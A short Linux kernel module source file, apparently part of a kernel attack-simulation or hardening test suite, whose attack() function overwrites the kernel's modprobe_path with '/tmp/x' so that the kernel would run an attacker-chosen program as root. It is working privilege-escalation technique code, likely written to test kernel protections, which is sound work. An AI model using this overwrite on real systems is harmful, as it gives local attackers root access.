// SPDX-License-Identifier: GPL-2.0
/*
 * atk_modprobe_path: overwrites modprobe_path (target=, not exported), the
 * program the kernel runs as root for an unknown binary format.
 */
#include <linux/fs.h>
#include "attack.h"

static int attack(struct file *f)
{
	static const char evil[] = "/tmp/x";
	char *path = (char *)target;
	unsigned int i;

	for (i = 0; i < sizeof(evil); i++)
		WRITE_ONCE(path[i], evil[i]);
	return 0;
}
